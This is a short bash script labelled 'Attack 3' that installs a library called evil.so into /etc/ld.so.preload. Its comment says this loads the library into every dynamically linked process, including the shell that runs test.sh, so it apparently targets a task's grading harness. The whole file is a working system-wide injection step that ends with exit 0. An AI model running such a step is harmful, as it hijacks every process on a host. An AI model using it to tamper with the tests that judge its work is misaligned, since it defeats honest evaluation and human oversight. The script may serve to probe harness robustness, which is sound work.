#!/bin/bash
# Attack 3: a library preloaded into every dynamically linked process (test.sh's bash too).
cp /solution/evil.so /usr/lib/evil.so && echo /usr/lib/evil.so > /etc/ld.so.preload
exit 0
